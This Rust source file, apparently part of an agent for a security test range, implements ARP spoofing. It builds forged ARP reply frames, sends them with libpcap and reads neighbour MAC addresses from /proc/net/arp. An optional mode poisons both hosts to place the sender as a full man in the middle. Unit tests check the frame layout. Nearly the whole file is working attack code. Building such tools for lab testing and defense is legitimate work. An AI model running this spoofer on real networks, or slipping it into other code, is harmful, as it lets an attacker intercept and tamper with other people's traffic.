//! `arp-spoof`: unsolicited ARP replies ("`impersonate` is at my MAC address") sent to
//! `target` with libpcap's `sendpacket`, a bounded number of times. On a flat network this
//! puts the attacker on the path between the target and the host it impersonates (the
//! unprotected-networks threat); on another segment the frames reach nobody.
//!
//! With `both_ways` it also tells `impersonate` that `target` is at our MAC (arpspoof's
//! `-r`), so the answers come through the attacker too: a full man in the middle.
//!
//! The target's MAC address comes from `--target-mac`, else from the kernel's neighbour
//! table (`/proc/net/arp`), else the frames are broadcast. The impersonated host's MAC (for
//! `both_ways`) comes from the neighbour table, after one UDP datagram to its discard port
//! makes the kernel resolve it if needed, else the frames are broadcast. Linux updates an *existing* neighbour entry from an
//! unsolicited reply (it does not create one unless `arp_accept`).

use crate::error::AgentError;
use protocol::result::{ArpSpoofResult, to_value};
use serde_json::Value;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

pub const MAX_COUNT: u32 = 1000;

#[derive(Debug, Clone)]
pub struct ArpOptions {
    pub iface: String,
    pub target: Ipv4Addr,
    pub impersonate: Ipv4Addr,
    pub target_mac: Option<[u8; 6]>,
    /// Poison the impersonated host's cache as well (the return path).
    pub both_ways: bool,
    pub count: u32,
    pub interval: Duration,
}

pub fn parse_mac(s: &str) -> Option<[u8; 6]> {
    let parts: Vec<u8> = s
        .trim()
        .split(':')
        .map(|p| u8::from_str_radix(p, 16).ok())
        .collect::<Option<_>>()?;
    parts.try_into().ok()
}

pub fn mac_string(m: &[u8; 6]) -> String {
    m.iter()
        .map(|b| format!("{b:02x}"))
        .collect::<Vec<_>>()
        .join(":")
}

/// Our MAC address on `iface` (from sysfs).
pub fn iface_mac(iface: &str) -> Result<[u8; 6], AgentError> {
    if iface.contains('/') || iface.contains("..") {
        return Err(AgentError::other(format!(
            "'{iface}' is not an interface name"
        )));
    }
    let p = format!("/sys/class/net/{iface}/address");
    let s = std::fs::read_to_string(&p)
        .map_err(|e| AgentError::other(format!("no interface '{iface}' ({p}: {e})")))?;
    parse_mac(&s).ok_or_else(|| AgentError::other(format!("cannot read the MAC address in {p}")))
}

/// The MAC of `ip` in the kernel's neighbour table, if known and complete.
pub fn neighbour_mac(ip: Ipv4Addr, table: &str) -> Option<[u8; 6]> {
    table.lines().skip(1).find_map(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        (f.len() >= 4 && f[0] == ip.to_string() && f[2] != "0x0")
            .then(|| parse_mac(f[3]))
            .flatten()
            .filter(|m| m != &[0u8; 6])
    })
}

/// The MAC of `ip` from the neighbour table, resolving it first by sending one UDP datagram
/// to its discard port (9) and waiting up to a second for the kernel's ARP exchange.
fn resolve_mac(ip: Ipv4Addr) -> Option<[u8; 6]> {
    let lookup = || {
        std::fs::read_to_string("/proc/net/arp")
            .ok()
            .and_then(|t| neighbour_mac(ip, &t))
    };
    if let Some(m) = lookup() {
        return Some(m);
    }
    let sock = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    let _ = sock.send_to(b"dicom-range arp resolve", (ip, 9));
    let deadline = Instant::now() + Duration::from_secs(1);
    while Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
        if let Some(m) = lookup() {
            return Some(m);
        }
    }
    None
}

/// An Ethernet frame carrying an ARP reply: "`sender_ip` is at `sender_mac`", to
/// (`target_mac`, `target_ip`).
pub fn arp_reply(
    sender_mac: [u8; 6],
    sender_ip: Ipv4Addr,
    target_mac: [u8; 6],
    target_ip: Ipv4Addr,
) -> Vec<u8> {
    let mut f = Vec::with_capacity(42);
    f.extend_from_slice(&target_mac);
    f.extend_from_slice(&sender_mac);
    f.extend_from_slice(&[0x08, 0x06]); // EtherType ARP
    f.extend_from_slice(&[0x00, 0x01, 0x08, 0x00, 6, 4, 0x00, 0x02]); // Ethernet/IPv4, reply
    f.extend_from_slice(&sender_mac);
    f.extend_from_slice(&sender_ip.octets());
    f.extend_from_slice(&target_mac);
    f.extend_from_slice(&target_ip.octets());
    f
}

pub fn spoof(o: &ArpOptions) -> Result<Value, (Value, AgentError)> {
    let (v, error) = spoof_line(o);
    match error {
        None => Ok(to_value(&v)),
        Some(e) => Err((to_value(&v), e)),
    }
}

/// The spoof's line, and why it stopped short (if it did).
fn spoof_line(o: &ArpOptions) -> (ArpSpoofResult, Option<AgentError>) {
    let start = Instant::now();
    let mut v = ArpSpoofResult {
        action: "arp-spoof".into(),
        iface: o.iface.clone(),
        impersonate: o.impersonate.to_string(),
        target: o.target.to_string(),
        ..Default::default()
    };
    let ours = match iface_mac(&o.iface) {
        Ok(m) => m,
        Err(e) => return (v, Some(e)),
    };
    let (dst, how) = match o.target_mac {
        Some(m) => (m, "given"),
        None => match std::fs::read_to_string("/proc/net/arp")
            .ok()
            .and_then(|t| neighbour_mac(o.target, &t))
        {
            Some(m) => (m, "neighbour table"),
            None => ([0xff; 6], "broadcast"),
        },
    };
    v.our_mac = Some(mac_string(&ours));
    v.target_mac = Some(mac_string(&dst));
    v.target_mac_from = Some(how.into());
    let mut cap = match pcap::Capture::from_device(o.iface.as_str())
        .and_then(|c| c.snaplen(128).timeout(100).open())
    {
        Ok(c) => c,
        Err(e) => {
            let e = AgentError::other(format!(
                "{:#}",
                crate::sniff::explain_open_error(&o.iface, &e)
            ));
            return (v, Some(e));
        }
    };
    let mut frames = vec![arp_reply(ours, o.impersonate, dst, o.target)];
    v.both_ways = Some(o.both_ways);
    if o.both_ways {
        // Unresolved (not on this segment, say): broadcast, as for the target.
        let (back, how) = match resolve_mac(o.impersonate) {
            Some(m) => (m, "neighbour table"),
            None => ([0xff; 6], "broadcast"),
        };
        v.impersonate_mac = Some(mac_string(&back));
        v.impersonate_mac_from = Some(how.into());
        frames.push(arp_reply(ours, o.target, back, o.impersonate));
    }
    // `sent` counts rounds (one reply to each poisoned host per round), `frames` the frames.
    let (mut sent, mut frames_sent) = (0u32, 0u32);
    let count = o.count.clamp(1, MAX_COUNT);
    for i in 0..count {
        if i > 0 {
            std::thread::sleep(o.interval);
        }
        for frame in &frames {
            if let Err(e) = cap.sendpacket(frame.as_slice()) {
                v.sent = sent;
                v.frames = Some(frames_sent);
                return (
                    v,
                    Some(AgentError::other(format!("sendpacket failed: {e}"))),
                );
            }
            frames_sent += 1;
        }
        sent += 1;
    }
    v.sent = sent;
    v.frames = Some(frames_sent);
    v.success = sent == count;
    v.elapsed_ms = Some(start.elapsed().as_millis() as u64);
    (v, None)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frame_layout() {
        let f = arp_reply(
            [2, 0, 0, 0, 0, 5],
            "10.213.0.3".parse().unwrap(),
            [2, 0, 0, 0, 0, 2],
            "10.213.0.2".parse().unwrap(),
        );
        assert_eq!(f.len(), 42);
        assert_eq!(&f[12..14], &[0x08, 0x06]);
        assert_eq!(&f[20..22], &[0, 2]); // opcode reply
        assert_eq!(&f[22..28], &[2, 0, 0, 0, 0, 5]); // sender MAC: ours
        assert_eq!(&f[28..32], &[10, 213, 0, 3]); // sender IP: the impersonated host
        assert_eq!(&f[38..42], &[10, 213, 0, 2]);
    }

    #[test]
    fn neighbour_table() {
        let t = "IP address       HW type     Flags       HW address            Mask     Device\n\
                 10.213.0.2       0x1         0x2         02:42:0a:d5:00:02     *        eth0\n\
                 10.213.0.9       0x1         0x0         00:00:00:00:00:00     *        eth0\n";
        assert_eq!(
            neighbour_mac("10.213.0.2".parse().unwrap(), t),
            Some([2, 0x42, 10, 0xd5, 0, 2])
        );
        assert_eq!(neighbour_mac("10.213.0.9".parse().unwrap(), t), None);
        assert_eq!(
            parse_mac("aa:bb:cc:dd:ee:ff"),
            Some([0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff])
        );
        assert_eq!(parse_mac("aa:bb"), None);
    }
}
